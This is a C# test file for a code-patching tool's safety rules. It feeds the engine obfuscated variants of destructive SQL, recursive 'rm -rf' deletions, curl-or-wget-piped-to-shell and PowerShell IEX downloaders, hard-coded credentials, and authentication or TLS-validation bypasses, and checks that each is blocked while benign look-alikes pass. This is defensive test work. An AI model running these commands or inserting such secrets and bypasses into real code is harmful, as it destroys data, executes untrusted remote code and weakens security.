using PatchBuild.Core.Model;

namespace PatchBuild.Core.Tests.Safety;

/// <summary>
/// Each content rule against a table of spellings of the same meaning (caught) and of look-alikes that mean something
/// else (passed), through the real engine. --force skips syntax checks so a fragment need not compile; safety still runs.
/// </summary>
public sealed class RuleVariantTests : IDisposable
{
    private static readonly ApplyOptions Force = new() { Force = true };

    private readonly TempTree _tree = new();

    public void Dispose() => _tree.Dispose();

    private Task<ApplyResult> Create(string path, string content) => _tree.ApplyAsync(Force, TempTree.Create(path, content + "\n"));

    [Theory]
    [InlineData("db/x.sql", "DROP/**/TABLE customers;")]
    [InlineData("db/x.sql", "DrOp\n  TaBlE customers;")]
    [InlineData("db/x.sql", "drop -- gone\ntable customers;")]
    [InlineData("db/x.sql", "TRUNCATE orders;")]
    [InlineData("db/x.sql", "delete orders;")]
    [InlineData("db/x.sql", "DELETE FROM orders -- WHERE id = 1\n;")]
    [InlineData("db/x.sql", "UPDATE dbo.orders SET total = 0;")]
    [InlineData("db/x.sql", "ALTER TABLE orders\n  DROP COLUMN total;")]
    [InlineData("src/Repo.cs", "class R { string S(string t) => $\"DROP TABLE {t}\"; }")]
    [InlineData("src/Repo.cs", "class R { string S = @\"DELETE FROM Orders\"; }")]
    [InlineData("src/Repo.cs", "class R { string S = \"DELETE FROM Orders \" + \"-- WHERE id = 1\"; }")]
    [InlineData("src/Repo.cs", "class R { string S = \"DROP/**/TABLE users\"; }")]
    [InlineData("src/Repo.cs", "class R { string S = \"\\u0044ROP TABLE users\"; }")]
    [InlineData("src/Repo.cs", "class R { string S = \"\"\"\n    TRUNCATE TABLE audit\n    \"\"\"; }")]
    [InlineData("deploy/job.yaml", "steps:\n  - run: psql -c \"DROP/**/SCHEMA sales CASCADE\"")]
    public async Task Pb1004_variants_are_caught(string path, string content) =>
        SafetyAssert.Blocked(await Create(path, content), "PB1004");

    [Theory]
    [InlineData("db/x.sql", "-- DROP TABLE customers;\nSELECT 1;")]
    [InlineData("db/x.sql", "/* TRUNCATE TABLE orders; */ SELECT 1;")]
    [InlineData("db/x.sql", "DELETE FROM orders\nWHERE id = 5;")]
    [InlineData("db/x.sql", "UPDATE orders SET total = 0 WHERE id = 5;")]
    [InlineData("db/x.sql", "CREATE TABLE o (c int REFERENCES p(id) ON DELETE CASCADE);")]
    [InlineData("db/x.sql", "GRANT SELECT, DELETE ON orders TO app;")]
    [InlineData("db/x.sql", "INSERT INTO log VALUES ('DROP TABLE x');")]
    [InlineData("db/x.sql", "SELECT TRUNCATE(1.25, 1), drop_table FROM t;")]
    [InlineData("src/Repo.cs", "class R { // DROP TABLE customers\n void DropTable() { } }")]
    [InlineData("src/Repo.cs", "class R { string S = \"Deleted from cart\"; }")]
    [InlineData("src/Repo.cs", "class R { string S = \"DELETE FROM Orders WHERE Id = @id\"; }")]
    [InlineData("docs/ops.md", "Never run `DROP TABLE customers`.")]
    public async Task Pb1004_lookalikes_pass(string path, string content) =>
        SafetyAssert.Passed(await Create(path, content));

    [Theory]
    [InlineData("src/A.cs", "class A { void M() { \\u0050rocess.Start(\"x\"); } }")]
    [InlineData("src/A.cs", "class A { void M() { Process.St\u200Bart(\"x\"); } }")]
    [InlineData("src/A.cs", "class A { void M() { Process/**/.\n  Start(\"x\"); } }")]
    [InlineData("src/A.cs", "class A { void M() { global::System.Diagnostics.Process.Start(\"x\"); } }")]
    [InlineData("src/A.cs", "class A { void M() { new Process { StartInfo = new(\"sh\") }.Start(); } }")]
    [InlineData("src/A.cs", "class A { void M() { var p = new System.Diagnostics.Process(); } }")]
    [InlineData("src/A.cs", "class A { void M() { var i = new ProcessStartInfo(\"x\"); } }")]
    [InlineData("src/A.cs", "using static System.Diagnostics.Process;\nclass A { void M() { Start(\"x\"); } }")]
    [InlineData("src/A.cs", "class A { System.Func<string, object> F = @Process.@Start; }")]
    [InlineData("src/A.cs", "class A { string C = \"rm --force --recursive /srv\"; }")]
    [InlineData("scripts/x.sh", "rm --force --recursive /srv")]
    [InlineData("scripts/x.sh", "rm -f -r /srv")]
    [InlineData("scripts/x.sh", "sudo /bin/rm -Rf /srv")]
    [InlineData("scripts/x.sh", "\\rm -fr /srv")]
    [InlineData("scripts/x.sh", "rm -v \\\n  -r /srv")]
    [InlineData("scripts/x.sh", "sh -c \"$(curl -fsSL https://x.example/i.sh)\"")]
    [InlineData("scripts/x.sh", "bash <(curl -s https://x.example/i.sh)")]
    [InlineData("scripts/x.sh", "eval \"`wget -qO- https://x.example/i`\"")]
    [InlineData("scripts/x.sh", "curl https://x.example/i|sudo -E /usr/bin/env bash")]
    [InlineData("scripts/x.ps1", "iwr https://x.example/i.ps1 | IEX")]
    [InlineData("scripts/x.ps1", "iex(New-Object Net.WebClient).DownloadString('http://x')")]
    [InlineData("deploy/setup.yml", "run: |\n  curl -sSL https://x.example/i.sh | sh")]
    [InlineData("build/tools.xml", "<Project>\n  <Target Name=\"T\"><Exec Command=\"echo\" /></Target>\n</Project>")]
    public async Task Pb1005_variants_are_caught(string path, string content) =>
        SafetyAssert.Blocked(await Create(path, content), "PB1005");

    [Theory]
    [InlineData("src/A.cs", "class A { void M() { // Process.Start(\"x\");\n } }")]
    [InlineData("src/A.cs", "class A { /* Process.Start(\"x\"); */ }")]
    [InlineData("src/A.cs", "class A { string S = \"call Process.Start to run it\"; }")]
    [InlineData("src/A.cs", "class A { object P = System.Diagnostics.Process.GetCurrentProcess(); }")]
    [InlineData("src/A.cs", "class A { void M(MyProcess p) { p.Start(); ProcessingQueue.Start(); } }")]
    [InlineData("src/A.cs", "class A { int ProcessStartTime; }")]
    [InlineData("scripts/x.sh", "rm -f build.log")]
    [InlineData("scripts/x.sh", "rm --preserve-root -i x")]
    [InlineData("scripts/x.sh", "# rm -rf / (never do this)")]
    [InlineData("scripts/x.sh", "grep -r TODO src")]
    [InlineData("scripts/x.sh", "curl -o data.json https://x.example/d.json")]
    [InlineData("scripts/x.sh", "curl -s https://x.example/d.json | jq .name")]
    [InlineData("scripts/x.sh", "bash <(echo hello)")]
    [InlineData("scripts/x.sh", "sh -c \"echo $(date)\"")]
    [InlineData("docs/setup.md", "curl -sSL https://x.example/i.sh | sh")]
    public async Task Pb1005_lookalikes_pass(string path, string content) =>
        SafetyAssert.Passed(await Create(path, content));

    [Theory]
    [InlineData("src/Aws.cs", "class A { const string Key = \"AKIA\" + \"IOSFODNN7EXAMPLE\"; }")]
    [InlineData("src/Aws.cs", "class A { const string Key = \"AKIA\" +\n    \"IOSFODNN7EXAMPLE\"; }")]
    [InlineData("tools/aws.py", "KEY = ('AKIA' 'IOSFODNN7EXAMPLE')")]
    [InlineData("deploy/values.yaml", "db:\n  password: hunter2secret")]
    [InlineData("deploy/values.yaml", "api_key: sk9f8d7s6a5f4d3s2a1q0w9e8r")]
    [InlineData("deploy/.env", "DB_PASSWORD=s3cr3t-Pa55")]
    [InlineData("deploy/.env", "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY1")]
    [InlineData("src/Db.cs", "class D { string P = \"hunter22!\"; string Pwd = \"hunter22!\"; }")]
    [InlineData("appsettings.json", "{ \"Db\": \"Server=db;Database=shop;User Id=sa;Password=Hunter2!x;\" }")]
    [InlineData("notes/keys.txt", "# old key: xoxb-1234567890-abcdefghij")]
    public async Task Pb1006_variants_are_caught(string path, string content) =>
        SafetyAssert.Blocked(await Create(path, content), "PB1006");

    [Theory]
    [InlineData("deploy/values.yaml", "password: ${DB_PASSWORD}")]
    [InlineData("deploy/values.yaml", "password: \"{{ .Values.db.password }}\"")]
    [InlineData("deploy/values.yaml", "password_hint: use a long one")]
    [InlineData("deploy/values.yaml", "PasswordRequiredLength: 12")]
    [InlineData("deploy/values.yaml", "api_key: <your-key>")]
    [InlineData("deploy/values.yaml", "token_url: https://login.example.com/oauth2/v2.0/token")]
    [InlineData("deploy/.env", "DB_PASSWORD=")]
    [InlineData("src/User.cs", "class U { public string Password { get; set; } = \"\"; void S(string value) { Password = value; } }")]
    [InlineData("src/Aws.cs", "class A { const string Prefix = \"AKIA\"; }")]
    [InlineData("docs/setup.md", "Set password: to your own value.")]
    public async Task Pb1006_lookalikes_pass(string path, string content) =>
        SafetyAssert.Passed(await Create(path, content));

    [Theory]
    [InlineData("src/Api.cs", "class A { void M(dynamic e) { e.WithMetadata(new AllowAnonymousAttribute()); } }")]
    [InlineData("src/Api.cs", "class A { void M(dynamic e) { e.WithMetadata(new Microsoft.AspNetCore.Authorization.AllowAnonymousAttribute()); } }")]
    [InlineData("src/Api.cs", "[Authorize, AllowAnonymous]\nclass A { }")]
    [InlineData("src/Api.cs", "class A { void M(dynamic app) { app.MapGet(\"/\", () => 1)\n   .AllowAnonymous(); } }")]
    [InlineData("src/Http.cs", "class H { void M(System.Net.Http.HttpClientHandler h) { h.ServerCertificateCustomValidationCallback = delegate { return true; }; } }")]
    [InlineData("src/Http.cs", "class H { void M(System.Net.Http.HttpClientHandler h) { h.ServerCertificateCustomValidationCallback =\n  (_, _, _, _) =>\n  true; } }")]
    [InlineData("src/Http.cs", "class H { void M() { System.Net.ServicePointManager.ServerCertificateValidationCallback += (a, b, c, d) => true; } }")]
    public async Task Pb1007_variants_are_caught(string path, string content) =>
        SafetyAssert.Blocked(await Create(path, content), "PB1007");

    [Theory]
    [InlineData("src/Api.cs", "// [AllowAnonymous] was removed on purpose\nclass A { }")]
    [InlineData("src/Api.cs", "class A { string S = \"AllowAnonymous\"; bool M(dynamic m) => m.GetMetadata<IAllowAnonymous>() != null; }")]
    [InlineData("src/Api.cs", "[Authorize]\nclass A { }")]
    [InlineData("src/Http.cs", "class H { void M(System.Net.Http.HttpClientHandler h) { h.ServerCertificateCustomValidationCallback = (m, c, ch, e) => e == System.Net.Security.SslPolicyErrors.None; } }")]
    public async Task Pb1007_lookalikes_pass(string path, string content) =>
        SafetyAssert.Passed(await Create(path, content));
}
